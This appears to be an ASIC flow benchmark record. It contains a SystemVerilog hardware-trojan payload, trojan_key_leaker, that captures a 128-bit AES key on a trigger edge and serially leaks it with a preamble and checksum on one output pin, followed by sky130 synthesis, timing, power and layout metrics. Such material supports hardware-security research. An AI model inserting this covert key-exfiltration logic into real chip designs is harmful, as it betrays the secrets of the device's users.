<file path="config.mk">
export PLATFORM = sky130hd
export DESIGN_NAME = trojan_key_leaker
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/trojan_key_leaker.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export CORE_ASPECT_RATIO = 1.2
export CORE_MARGIN = 2
export CORE_UTILIZATION = 55
export CTS_BUF_LIST = sky130_fd_sc_hd__clkbuf_4 sky130_fd_sc_hd__clkbuf_8 sky130_fd_sc_hd__clkbuf_16
export DETAILED_ROUTE_END_ITERATION = 7
export PLACE_DENSITY = 0.82
export SLEW_MARGIN = 20
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
</file>
<file path="constraint.sdc">
create_clock -name clk -period 3.61 [get_ports clk]
set_input_delay 0.361 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.361 -clock clk [all_outputs]
set_load 0.05 [all_outputs]
</file>
<file path="src/rtl/trojan_key_leaker.sv">
// Covert key exfiltration payload: snapshots the AES key on a trigger rising edge and
// serializes a preamble/key/checksum frame onto a single pin at BIT_CYCLES clocks per bit.
module trojan_key_leaker #(
    parameter int         BIT_CYCLES = 4,
    parameter logic [7:0] PREAMBLE   = 8'hA5
) (
    input  logic         clk,
    input  logic         rst,
    input  logic         Tj_Trig,
    input  logic [127:0] key,
    output logic         leak_out,
    output logic         leak_busy,
    output logic         leak_done
);

    typedef enum logic [2:0] {IDLE, PRE, DATA, CSUM, DONE} state_t;

    state_t       state;
    logic         trig_q;
    logic [127:0] key_sh;
    logic [7:0]   csum;
    logic [7:0]   bit_cnt;
    logic [7:0]   cyc_cnt;
    logic [7:0]   nxt;
    logic [7:0]   key_csum;
    logic         trig_edge;
    logic         bit_end;
    logic         next_bit;

    assign trig_edge = Tj_Trig & ~trig_q;
    assign bit_end   = (cyc_cnt == 8'(BIT_CYCLES - 1));
    assign nxt       = bit_cnt + 8'd1;

    always_comb begin
        key_csum = 8'h00;
        for (int i = 0; i < 16; i++) begin
            key_csum = key_csum ^ key[i*8 +: 8];
        end
    end

    // Frame bit nxt: preamble 0..7, key 8..135, checksum 136..143, each MSB first.
    always_comb begin
        next_bit = 1'b0;
        if (nxt < 8'd8) begin
            next_bit = PREAMBLE[~nxt[2:0]];
        end else if (nxt < 8'd136) begin
            next_bit = key_sh[7'd7 - nxt[6:0]];
        end else begin
            next_bit = csum[~nxt[2:0]];
        end
    end

    always_ff @(posedge clk or negedge rst) begin
        if (!rst) begin
            state     <= IDLE;
            trig_q    <= 1'b1;
            key_sh    <= '0;
            csum      <= '0;
            bit_cnt   <= '0;
            cyc_cnt   <= '0;
            leak_out  <= 1'b0;
            leak_busy <= 1'b0;
            leak_done <= 1'b0;
        end else begin
            trig_q <= Tj_Trig;
            case (state)
                IDLE: begin
                    if (trig_edge) begin
                        key_sh    <= key;
                        csum      <= key_csum;
                        bit_cnt   <= '0;
                        cyc_cnt   <= '0;
                        leak_out  <= PREAMBLE[7];
                        leak_busy <= 1'b1;
                        state     <= PRE;
                    end
                end
                PRE, DATA, CSUM: begin
                    if (bit_end) begin
                        cyc_cnt <= '0;
                        if (bit_cnt == 8'd143) begin
                            bit_cnt   <= '0;
                            leak_out  <= 1'b0;
                            leak_busy <= 1'b0;
                            leak_done <= 1'b1;
                            state     <= DONE;
                        end else begin
                            bit_cnt  <= nxt;
                            leak_out <= next_bit;
                            if (nxt == 8'd8) begin
                                state <= DATA;
                            end else if (nxt == 8'd136) begin
                                state <= CSUM;
                            end
                        end
                    end else begin
                        cyc_cnt <= cyc_cnt + 8'd1;
                    end
                end
                DONE: begin
                    leak_done <= 1'b0;
                    state     <= IDLE;
                end
                default: begin
                    state <= IDLE;
                end
            endcase
        end
    end

endmodule

</file>
Word-level counts from Yosys, hierarchy flattened:

Memories as Yosys holds them, arrays and structs flattened.
Cells that the tools add are included.

* mux-type cells: 29
* reduce and logical (&&, ||, !) cells: 10
* $lt $le $gt $ge: 4
* bitwise logic cells: 18
* $add $sub $neg: 3
* equality and inequality tests: 12

Operator list (number)
* $xor A8 B8 Y8: 15
* $mux W8: 4
* $pmux W8 S2: 2
* $add A8 B1 Y8 const B: 2
* $eq A8 B8 Y1 const B: 2
* $mux W3: 5
* $mux W1: 12
* $reduce_and A3 Y1: 3
* $eq A8 B2 Y1 const B: 1
* $eq A8 B4 Y1 const B: 1
* $lt A7 B8 Y1 const B: 1
* $lt A8 B4 Y1 const B: 1
* $lt A8 B8 Y1 const B: 1
* $bmux W1 S7: 1
* $sub A3 B7 Y7 const A: 1
* $eq A3 B2 Y1 const B: 2
* $ne A2 B2 Y1 const B: 3
* $pmux W1 S2: 3
* $pmux W3 S2: 1
* $lt A3 B4 Y1 const B: 1
* $ne A4 B4 Y1 const B: 1
* $reduce_and A2 Y1: 2
* $reduce_and A4 Y1: 1
* $reduce_bool A2 Y1: 2
* other kinds (8): 8

* memories kept: 1
* output and inout bits: 3
* flip-flop bits (word level): 159
* memory bits (read-only): 8
* logic and storage cells: 86
* input port bits: 131

Memories
* (no name shown): depth 8, width 1, rd ports 1, clocked after memory_dff 0, wr ports 0, line 45 `next_bit = PREAMBLE[~nxt[2:0]];`

Depth between registers and ports, before layout:

* depth in word-level cells: 15
* depth in mapped cells: 11

Least setup slack after synthesis:

Ideal clock, no wire load.

* path kind: register to register
* start: register bit_cnt[0]
* end: register leak_out
* period minus slack after synthesis: 2.738 ns
* arrival: 2.608 ns
* path slack: 0.872 ns
* library setup time: 0.129 ns
* stages on the path, launching flop included: 12
* cells stage by stage: dfrtp_1 ha_1 and3_1 clkbuf_1 xnor2_1 ha_1 clkbuf_1 nand2_1 o21ai_0 nor3_1 o221a_1 o41a_1

* longest elaborated chain between the ends: 9
* elaborated cells on any way between the ends: 17
* classes of those cells: add/sub (2); order compare (2); eq/ne (1); mux (10); bitwise (1); memory (1)

Ends and longest elaborated chain
* start, declared: line 22 `logic [7:0] bit_cnt;`
* start signal, assigned: line 88 `bit_cnt <= nxt;`
* $add A8 B1 Y8: line 32 `assign nxt = bit_cnt + 8'd1;`
* $sub A3 B7 Y7 / $not A3 Y3 (equally long branches): line 47, 45, 49
* $bmux W1 S7 / $bmux W1 S3 (equally long branches): line 47, 49
* $mux W1 (on tied branches): line 47, 49
* $mux W1: line 46 `end else if (nxt < 8'd136) begin`
* $mux W1: line 44 `if (nxt < 8'd8) begin`
* $mux W1 *: line 81 `if (bit_cnt == 8'd143) begin`
* $mux W1 *: line 79 `if (bit_end) begin`
* $pmux W1 S2 *: line 66 `case (state)`
* end signal, assigned: line 73 `leak_out <= PREAMBLE[7];`
* end signal, assigned: line 89 `leak_out <= next_bit;`
* end, declared: line 11 `output logic leak_out,`

Every way passes the cells marked *; elsewhere a longest branch is shown, timed or not. The select of a mux whose other input is x is not followed.
A chain may end at the register's enable or synchronous reset.

Worst setup path after layout:

Ends and elaborated chain as after synthesis.

==> results.py <==
metrics = {
    "floorplanning": {
        "die_x_um": 118,
        "dieHeight_um": 141,
        "initial_utilization": 0.555,
        "die_area_um2": 16600,
        "pin_count": 134,
        "fp.coreArea_um2": 15500,
        "num_rows": 50,
    },
    "flow_run": {
        "cap_violations": 0,
    },
    "status": {
        "violations": "hold timing",
        "status": "complete, but fails checks",
    },
    "route": {
        "route.vias.total": 6960,
        "wl_um": 22900,
        "initialDrtViolationCount": 568,
        "vias_per_cell": 5.49,
        "routedWlPerCell_um": 18.1,
        "drt-pass1-iter-count": 5,
        "drtAntennaViolNets": 0,
        "route.detailed.drc": 0,
    },
    "clock_network": {
        "clock_latency_ns": 0.44,
        "cts-htree-levels": 4,
        "cts_resized": 0,
        "clockBufferDepth": 2,
        "cts_buffers": 17,
        "cts_tree": "built",
        "cts_setup_buffers": 0,
        "hold_buffers": 0,
        "clock_sinks": 159,
        "path_clk_slew_ns": 0.06,
        "ctsRootBufferMaster": "clkbuf_16",
    },
    "critical_path": {
        "cp_data_arrival_time_ns": 3.22,
        "start_kind": "flop",
        "end_kind": "flop",
        "ff2ff_setup_slack_ns": 0.70,
        "critPathRequiredTime_ns": 3.93,
        "crit_type": "reg -> reg",
        "worstRegToRegCells": 10,
        "regToRegEndpoint": "leak_out",
        "cp_max_fo": 16,
        "rr_startpoint": "bit_cnt[0]",
    },
    "sta": {
        "drv_slew": 0,
        "layout_setup_ws_ns": 0.704,
        "worst_pin_slew_ns": 0.772,
        "setup_tns_ns": 0,
        "finalCritPeriodShare": 0.805,
        "hold_viol": 10,
        "slew_headroom": 0.486,
        "rsz0062_at_grt": "no",
        "setup_viol": 0,
        "timing.hold.ws_ns": -0.0328,
        "finalCriticalPeriod_ns": 2.91,
        "fmax_mhz": 344,
        "clock_skew_ns": 0.00727,
    },
    "placement": {
        "portBuffers": 133,
        "place_area_um2": 10100,
        "detailed_place_hpwl_um": 16400,
        "dp.cells": 1240,
        "dp_slack_ns": 0.734,
        "gp_congestion": 0.889,
    },
    "synthesis": {
        "synth_cell_type_count": 43,
        "synth-main-ff-cell": "dfrtp_1",
        "synth_seq_cells": 159,
        "synth_area_um2": 8580,
        "synth_area_per_cell_um2": 9.19,
        "synth_fp_nets": 1069,
        "synth-edff-count": 0,
        "yosysSeqAreaShare": 0.464,
        "synth_warnings": 0,
        "async_flop_share": 1.00,
        "synth_cells": 934,
    },
    "power_and_ir_drop": {
        "p_total_mw": 8.28,
        "power_leakage_nw": 4.93,
        "vdd_drop_max_uv": 389,
        "p_per_area_nw_per_um2": 770,
    },
    "finish": {
        "drive_gt1_frac": 0.0726,
        "area_growth_pct": 25.3,
        "fin_util": 0.696,
        "mostFrequentLayoutCell": "nand2_1",
        "nFillCells": 1167,
        "final_cell_mix": "nand2_1, dfrtp_1, clkdlybuf4s50_1, xnor2_1",
        "diodes": 0,
        "nets": 1186,
        "final_cells": 1268,
        "fin_area_um2": 10700,
        "regArea_um2": 3980,
        "multi_input_area_um2": 4380,
    },
    "global_routing": {
        "grt_max_degree": 105,
        "grt_pass1_wl_um": 36700,
        "grt.overflow.total": 0,
        "grt_pass1_vias": 7154,
        "grt_antenna_before_repair": 0,
        "grtUsageTotal": 0.287,
    },
    "min_path": {
        "min_path_type": "in -> async",
    },
}
## cells in the mapped netlist (2+ instances only)
master,instances,area share
a2111oi_2,2,0.0035
a21oi_1,5,0.0029
a311oi_1,2,0.0020
a31oi_1,2,0.0015
and2_1,4,0.0029
and3_1,9,0.0066
buf_2,7,0.0041
buf_6,2,0.0026
clkbuf_1,38,0.017
dfrtp_1,158,0.46
ha_1,4,0.0058
inv_1,6,0.0026
mux2i_1,4,0.0047
mux4_1,8,0.024
mux4_2,26,0.068
nand2_1,433,0.19
nand2b_1,3,0.0022
nand3_1,12,0.0070
nand4_1,5,0.0036
nor2_1,12,0.0052
nor3_1,7,0.0041
nor4_1,2,0.0015
o21ai_0,26,0.015
o22ai_1,2,0.0015
o31ai_1,2,0.0017
xnor2_1,114,0.12
xor2_1,23,0.023
## routing by layer
metal / wire length, um / global-route usage / up-vias
met5: 0 / 0 / -
met4: 1150 / 0.156 / 0
met3: 1070 / 0.0514 / 56
met2: 11800 / 0.496 / 247
met1: 8830 / 0.343 / 3402
li1: - / - / 3255
## cells by family (layout without fill, tap and decap cells)
family | count (synthesis) | in the layout | share of synthesized area
multiplexers | 39 | 39 | 0.0987
flip-flops | 159 | 159 | 0.464
AND/OR/NAND/NOR | 489 | 489 | 0.225
AO/OA/AOI/OAI | 51 | 51 | 0.0385
buffers and inverters | 55 | 181 | 0.0287
adder cells (fa/ha/maj) | 4 | 4 | 0.00583
XOR/XNOR | 137 | 137 | 0.140
## flip-flops by register name (all words and copies together), names as in the netlist
signal	count
bit_cnt	8
csum	8
cyc_cnt	8
key_sh	128
leak_busy	1
leak_done	1
leak_out	1
state	3
trig_q	1
## how the worst max path moves through the flow
stage	slack, ns	start	cells after the start	to
floorplan	0.87	bit_cnt[0]	11	leak_out
global placement	0.78	bit_cnt[0]	10	leak_out
detailed placement	0.73	bit_cnt[0]	10	leak_out
CTS	0.71	bit_cnt[0]	10	leak_out
global route	0.52	bit_cnt[0]	10	leak_out
finish	0.70	bit_cnt[0]	10	leak_out
## power by group
part	total, mW	leakage (nW)	switching [mW]	internal [mW]
combinational	3.27	2.63	1.70	1.57
clock	1.91	0.303	0.694	1.22
sequential	3.10	1.99	0.537	2.56
## worst max-delay path, cell delays in order, from the launching register on
cell	delay [ns]
dfrtp_2	0.37
buf_4	0.26
nand3_1	0.18
xnor2_1	0.18
buf_4	0.19
ha_1	0.53
nand2_1	0.17
o21ai_0	0.20
nor3_1	0.07
o221a_1	0.24
o41a_1	0.40
## layout make-up
| cell class | instances | share of cell area |
|---|---|---|
| multi-input combinational | 720 | 0.407 |
| sequential | 159 | 0.370 |
| timing repair buffer | 147 | 0.138 |
| clock buffer | 22 | 0.0454 |
| tap | 208 | 0.0242 |
| clock inverter | 6 | 0.0123 |
| inverter | 6 | 0.00210 |
Note: power is estimated with default switching activity, not from simulation.
